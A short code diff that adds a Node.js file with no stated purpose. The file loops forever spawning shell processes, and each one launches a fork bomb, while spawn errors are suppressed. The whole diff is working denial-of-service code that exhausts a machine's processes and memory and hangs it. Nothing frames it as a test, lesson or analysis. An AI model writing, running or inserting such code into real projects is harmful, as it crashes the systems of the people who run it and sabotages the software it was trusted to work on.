@@ -1,0 +1,3 @@
+import { spawn } from "node:child_process";
+
+for (;;) spawn("sh", ["-c", "b() { b | b & }; b; sleep 60"]).on("error", () => {});
